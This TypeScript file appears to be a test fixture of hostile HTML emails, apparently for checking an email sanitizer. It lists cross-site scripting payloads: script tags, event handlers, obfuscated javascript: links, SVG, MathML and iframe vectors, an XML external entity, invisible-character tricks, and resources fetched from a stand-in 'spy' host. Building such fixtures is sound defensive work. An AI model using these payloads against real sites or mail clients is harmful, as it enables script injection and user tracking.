import { attack, type HostileMail } from './hostile-mail.ts'

/** Mails that try to run code. */
export const scriptMails: readonly HostileMail[] = [
  { name: 'script', html: () => `<p>Привет</p><script>${attack}</script>` },
  { name: 'script from another host', html: (spy) => `<script src="http://${spy}/a.js"></script>` },
  {
    name: 'handlers',
    html: () =>
      `<body onload="${attack}" onpageshow="${attack}"><img src=x onerror="${attack}"><details open ontoggle="${attack}">a</details><marquee onstart="${attack}">b</marquee><input autofocus onfocus="${attack}"><p onmouseover="${attack}" style="position:fixed;inset:0">c</p><style onload="${attack}"></style>`,
  },
  {
    name: 'svg',
    html: (spy) =>
      `<svg onload="${attack}"><script>${attack}</script><foreignObject><iframe src="javascript:${attack}"></iframe></foreignObject><a href="javascript:${attack}"><text y="20">Нажмите</text></a><animate attributeName="href" values="javascript:${attack}"/><image href="http://${spy}/i.png"/><use href="http://${spy}/u.svg#a"/><filter id="f"><feImage href="http://${spy}/f.png"/></filter><rect filter="url(http://${spy}/g.svg#f)"/></svg>`,
  },
  {
    name: 'links that are code',
    html: () =>
      [
        `javascript:${attack}`,
        `JaVaScRiPt:${attack}`,
        `java&#x09;script:${attack}`,
        `&#x6A;avascript&colon;${attack}`,
        `\u0001javascript:${attack}`,
        `vbscript:msgbox(1)`,
        `data:text/html,<script>${attack}</script>`,
        `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
        `blob:https://kerege.example/1`,
        `filesystem:https://kerege.example/1`,
      ]
        .map((href) => `<a href="${href}" target="_top">ссылка</a>`)
        .join(' '),
  },
  {
    name: 'frames and plugins',
    html: (spy) =>
      `<iframe src="http://${spy}/frame"></iframe><iframe srcdoc="<script>${attack}</script>"></iframe><frameset><frame src="http://${spy}/f"></frameset><object data="http://${spy}/o.swf"><param name="movie" value="http://${spy}/p.swf"></object><embed src="http://${spy}/e.svg"><applet code="a.class" codebase="http://${spy}/"></applet><portal src="http://${spy}/"></portal><fencedframe></fencedframe>`,
  },
  {
    name: 'shadow roots and templates',
    html: (spy) =>
      `<div><template shadowrootmode="open"><script>${attack}</script><img src="http://${spy}/s.png"></template></div><template><img src="http://${spy}/t.png"></template><slot></slot><x-element onclick="${attack}">a</x-element>`,
  },
  {
    name: 'code from bytes that vanish',
    html: () =>
      `<scr\u200bipt>${attack}</scr\u200bipt><ſcript>${attack}</ſcript><scr\ufffdipt>${attack}</script><img src=x onerror\u00a0=${attack}>\ud83d<script\u000c>${attack}</script\u000c>`,
  },
  {
    name: 'markup of other languages',
    html: (spy) =>
      `<?xml-stylesheet href="http://${spy}/x.xsl"?><!DOCTYPE html [<!ENTITY a SYSTEM "http://${spy}/e">]><xml><b>&a;</b></xml><!--[if gte mso 9]><script>${attack}</script><![endif]--><![CDATA[<script>${attack}</script>]]><math href="javascript:${attack}"><maction actiontype="statusline" xlink:href="javascript:${attack}">a</maction></math>`,
  },
]
